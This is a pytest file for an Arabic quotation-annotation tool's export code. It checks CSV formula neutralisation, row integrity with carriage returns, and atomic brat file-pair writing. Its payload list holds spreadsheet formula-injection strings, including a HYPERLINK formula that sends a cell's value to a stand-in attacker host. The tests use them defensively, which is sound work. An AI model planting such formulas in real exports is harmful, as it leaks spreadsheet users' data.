"""Issue 10, items 8, 9 and 12: exports cannot be turned against their readers and never lose a
half: formulas are neutralised in CSV, carriage returns cannot split rows, brat pairs are whole."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from core.errors import SaveError
from core.export import QUOTE_COLUMNS, export_documents, neutralise_cell
from core.interchange.brat import write_brat
from core.model import Annotation, Document
from tests.hostile.conftest import Run

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _document(speaker: str, cue: str, quote_text: str) -> Document:
    text = f"{cue} {speaker}: «{quote_text}» ثم انتهى."
    document = Document(text, id="evil")
    cue_end = len(cue)
    start = text.index("«") + 1
    document.add(Annotation("c1", "cue", 0, cue_end))
    document.add(Annotation("q1", "quote", start, start + len(quote_text), kind="direct", speaker=speaker, cue=cue, cue_id="c1"))
    return document


def _csv_rows(documents: list[Document]) -> tuple[str, list[list[str]]]:
    out = io.StringIO(newline="")
    export_documents(documents, "csv", out)
    return out.getvalue(), list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_would_be_formulas_are_neutralised(payload: str) -> None:
    document = _document(speaker=payload, cue=payload, quote_text=payload + " نص")
    _, rows = _csv_rows([document])
    header, row = rows
    cells = dict(zip(header, row, strict=True))
    for column in ("speaker", "cue", "text"):
        assert cells[column].startswith("'" + payload[:1]), cells[column]
        assert cells[column][1:].startswith(payload)  # the value itself is kept, after the '
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert cells["start"].isdigit()  # numbers are numbers


def test_ordinary_cells_are_written_exactly() -> None:
    assert neutralise_cell("قال الوزير") == "قال الوزير"
    assert neutralise_cell("") == ""
    assert neutralise_cell("a=b") == "a=b"
    assert neutralise_cell("=1") == "'=1"


def test_a_carriage_return_inside_a_field_does_not_split_the_row() -> None:
    """Item 9: 48 quotes read back as 54 rows of uneven length."""
    documents = [_document(speaker=f"اسم\r{n}", cue="قال", quote_text=f"سطر\rثان\r\n{n}") for n in range(48)]
    raw, rows = _csv_rows(documents)
    assert len(rows) == 49 and all(len(row) == len(QUOTE_COLUMNS) for row in rows)
    assert rows[1][QUOTE_COLUMNS.index("speaker")] == "اسم\r0"
    assert raw.endswith("\r\n")


def test_brat_export_writes_each_pair_or_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Item 12: a failed export left NAME.txt without NAME.ann."""
    first, second = _document("سامي", "قال", "نعم"), _document("ريم", "قالت", "لا")
    second.id = "second"
    folder = tmp_path / "brat"
    (folder / "second.ann").mkdir(parents=True)  # the .ann cannot be written: a folder is there
    with pytest.raises(SaveError, match=r"second\.ann: cannot save: is a folder"):
        write_brat([first, second], folder)
    assert (folder / "evil.txt").exists() and (folder / "evil.ann").exists()  # the article before is whole
    assert not (folder / "second.txt").exists()
    assert not [p for p in os.listdir(folder) if p.endswith(".tmp")]


def test_brat_export_rolls_back_the_txt_when_the_ann_rename_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "brat"
    folder.mkdir()
    (folder / "evil.txt").write_text("previous text", encoding="utf-8")
    real_replace = os.replace

    def fail_for_ann(source: str, target: str | Path) -> None:
        if str(target).endswith(".ann"):
            raise OSError(28, "No space left on device")
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", fail_for_ann)
    with pytest.raises(SaveError, match="No space left on device"):
        write_brat([_document("سامي", "قال", "نعم")], folder)
    assert (folder / "evil.txt").read_text(encoding="utf-8") == "previous text"
    assert not (folder / "evil.ann").exists()
    assert sorted(os.listdir(folder)) == ["evil.txt"]


def test_the_export_command_refuses_an_unwritable_folder_in_one_line(sample: Path, tmp_path: Path, cli: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A read-only place (simulated: the tests may run as root, who can write anywhere)."""

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "mkdir", refuse)
    code, _, err = cli("export", sample, "--to", "brat", "-o", tmp_path / "out")
    assert code == 2
    assert err == f"iqtibas: {tmp_path / 'out'}: cannot create the folder: Permission denied\n"
    monkeypatch.setattr("tempfile.mkstemp", refuse)
    code, _, err = cli("export", sample, "--to", "csv", "-o", tmp_path / "q.csv")
    assert code == 2
    assert err == f"iqtibas: {tmp_path / 'q.csv'}: cannot save: Permission denied\n"
